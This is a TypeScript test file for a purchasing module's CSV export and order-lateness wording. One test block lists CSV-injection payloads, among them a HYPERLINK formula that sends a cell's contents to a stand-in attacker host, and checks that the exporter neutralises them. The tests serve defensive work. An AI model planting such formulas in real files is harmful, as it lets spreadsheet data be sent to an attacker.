import { describe, expect, test } from 'vitest'
import {
  dueSays,
  ORDER_COLUMNS,
  ORDER_LIST_COLUMNS,
  type OrderListText,
  type OrderText,
  orderCsv,
  orderDaysLate,
  orderListCsv,
  orderStanding,
} from '../../lib/buying/order-text.ts'
import { stockWords } from '../../lib/stock/stock-words.ts'

/** Reads CSV by the grammar of RFC 4180, section 2, independently of what wrote it; throws where the text breaks it. */
function rfc4180(text: string): string[][] {
  const rows: string[][] = [[]]
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  while (field.lastIndex < text.length) {
    const at = field.lastIndex
    const match = field.exec(text)
    if (!match) throw new Error(`no field at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`)
    rows.at(-1)!.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] === '\r\n' && field.lastIndex < text.length) rows.push([])
  }
  return rows
}

const line: OrderListText['lines'][number] = {
  number: 'TP-4410',
  supplierNumber: 'MFF/882',
  maker: 'Thornley & Pike',
  description: 'Return spring',
  unit: 'each',
  quantity: 15,
  pack: 5,
  minimum: 10,
  priceMinor: 1234,
  costMinor: 18_510,
  depositMinor: 6505,
  reason: '2 left after job 214, reorder point 4',
}

const list = (more: Partial<OrderListText['lines'][number]>, supplier: string | null = 'Marlpit Farm Factors') =>
  orderListCsv([
    { supplier: supplier === null ? null : { name: supplier }, currency: 'GBP', lines: [{ ...line, ...more }] },
  ])

/** The one row under the header, by column. */
function row(text: string): Record<string, string> {
  const [header, first] = rfc4180(text.replace(/^\uFEFF/, ''))
  return Object.fromEntries(header!.map((name, at) => [name, first![at] ?? 'missing']))
}

describe('the order list as CSV', () => {
  test('begins with a byte order mark and a header row, and ends lines as RFC 4180 says', () => {
    const text = list({})
    expect(text.startsWith(`\uFEFF${ORDER_LIST_COLUMNS.join(',')}\r\n`)).toBe(true)
    expect(text.endsWith('\r\n')).toBe(true)
  })

  test('has every column filled from its own value', () => {
    expect(row(list({ depositMinor: null })).deposit).toBe('')
    expect(row(list({}))).toEqual({
      supplier: 'Marlpit Farm Factors',
      part_number: 'TP-4410',
      supplier_number: 'MFF/882',
      maker: 'Thornley & Pike',
      description: 'Return spring',
      quantity: '15',
      unit: 'each',
      pack: '5',
      minimum: '10',
      price: '12.34',
      cost: '185.10',
      currency: 'GBP',
      deposit: '65.05',
      reason: '2 left after job 214, reorder point 4',
    })
  })

  test('has litres with a decimal point, not millilitres', () => {
    const oil = row(list({ unit: 'litre', quantity: 12_500, pack: 2500, minimum: 5000 }))
    expect([oil.quantity, oil.unit, oil.pack, oil.minimum]).toEqual(['12.5', 'litre', '2.5', '5'])
  })

  test('leaves supplier and supplier’s number empty where there is none', () => {
    const nobody = row(list({ supplierNumber: null }, null))
    expect([nobody.supplier, nobody.supplier_number]).toEqual(['', ''])
  })

  test('is a header row alone when nothing is to be ordered', () => {
    expect(rfc4180(orderListCsv([]).slice(1))).toEqual([[...ORDER_LIST_COLUMNS]])
  })

  // RFC 4180, section 2, rules 5 to 7: line breaks, double quotes and commas inside a field.
  test.each([
    'Pin, split, 6.3 x 50',
    '3/4" hose',
    '"quoted" from end to end"',
    'first line\nsecond line',
    'first line\r\nsecond line',
    'ends in a return\r',
    ' spaces kept ',
    'Кольцо уплотнительное',
    '密封圈 φ20',
    'ختم',
    'Dichtring Ø 20 – grün',
    '🔧',
  ])('keeps %j as it is', (description) => {
    expect(row(list({ description })).description).toBe(description)
  })

  // OWASP, CSV Injection: fields that begin with = + - @, tab or carriage return are run as formulas by spreadsheets.
  test.each([
    '=HYPERLINK("http://evil.example/?"&A1,"price list")',
    '-2+3',
    '+44 1632 960 123',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
  ])('does not let a spreadsheet run %j', (text) => {
    const read = row(list({ description: text, number: text, supplierNumber: text, maker: text, reason: text }, text))
    for (const name of ['supplier', 'part_number', 'supplier_number', 'maker', 'description', 'reason'])
      expect(read[name]).toBe(`'${text}`)
  })

  test('leaves a hyphen or an equals sign inside a part number alone', () => {
    expect(row(list({ number: 'AB-12=3' })).part_number).toBe('AB-12=3')
  })
})

describe('an order as CSV', () => {
  const order: OrderText = {
    number: 1017,
    supplier: { name: 'Saxholme Fluid Power' },
    orderedAt: new Date('2026-11-02T08:15:00Z'),
    dueOn: '2026-11-12',
    lines: [
      { ...line, quantity: 9, received: 4, cancelled: 2, due: 3, costMinor: 11_106 },
      { ...line, number: '=1', unit: 'metre', quantity: 2500, received: 0, cancelled: 0, due: 2500 },
    ],
  }

  test('has a row a line, with what came, what was cancelled and what is due', () => {
    const [header, first, second, ...more] = rfc4180(orderCsv(order, 'EUR').slice(1))
    expect(header).toEqual([...ORDER_COLUMNS])
    expect(more).toEqual([])
    expect(first!.join('|')).toBe(
      '1017|Saxholme Fluid Power|2026-11-02|2026-11-12|1|TP-4410|MFF/882|Thornley & Pike|Return spring|9|each|12.34|111.06|EUR|65.05|4|2|3',
    )
    expect(second!.slice(4, 6)).toEqual(['2', "'=1"])
    expect(second!.slice(9, 11)).toEqual(['2.5', 'metre'])
  })
})

describe('how an order stands', () => {
  const open = { state: 'ordered', dueOn: '2026-11-12', partReceived: false }

  test('it is late from the day after it was due', () => {
    expect(orderStanding(open, '2026-11-11')).toEqual({ shape: '☐', words: 'on order', isLate: false })
    expect(orderStanding(open, '2026-11-12')).toEqual({ shape: '☐', words: 'due today', isLate: false })
    expect(orderStanding(open, '2026-11-13')).toEqual({ shape: '▲', words: '1 day late', isLate: true })
  })

  test('days late are counted over the end of a month, a leap day and the change of the clocks', () => {
    expect(orderDaysLate('2028-02-27', '2028-03-01')).toBe(3)
    expect(orderDaysLate('2027-02-27', '2027-03-01')).toBe(2)
    expect(orderDaysLate('2026-10-20', '2026-10-30')).toBe(10)
  })

  test('what came in part is said, late or not', () => {
    const part = { ...open, partReceived: true }
    expect(orderStanding(part, '2026-11-10')).toEqual({ shape: '◧', words: 'on order, part received', isLate: false })
    expect(orderStanding(part, '2026-11-19').words).toBe('7 days late, part received')
  })

  test('an order that is done is never late', () => {
    expect(orderStanding({ ...open, state: 'received' }, '2027-01-01')).toMatchObject({
      words: 'received',
      isLate: false,
    })
    expect(orderStanding({ ...open, state: 'cancelled' }, '2027-01-01')).toMatchObject({
      words: 'cancelled',
      isLate: false,
    })
  })
})

describe('a part that was ordered', () => {
  test('is due until the day itself is over, and late from the next day on, with its date and the days', () => {
    expect(dueSays('2026-11-12', '2026-11-12')).toEqual({ words: 'due 12 Nov 2026', isLate: false })
    expect(dueSays('2026-11-12', '2026-11-13')).toEqual({ words: 'late, was due 12 Nov 2026, 1 day', isLate: true })
    expect(dueSays('2026-11-12', '2026-11-27').words).toBe('late, was due 12 Nov 2026, 15 days')
  })

  test('is called late wherever its stock is said, and not where it is on time', () => {
    const stock = { onHand: 0, available: 0, onOrder: 2, dueOn: '2026-11-12', keptFor: [] }
    expect(stockWords(stock, 'each', null, null, '2026-11-14').words).toBe(
      'none on shelf, 2 on order, late, was due 12 Nov 2026, 2 days',
    )
    expect(stockWords(stock, 'each', null, null, '2026-11-12').words).toBe('none on shelf, 2 on order')
  })
})
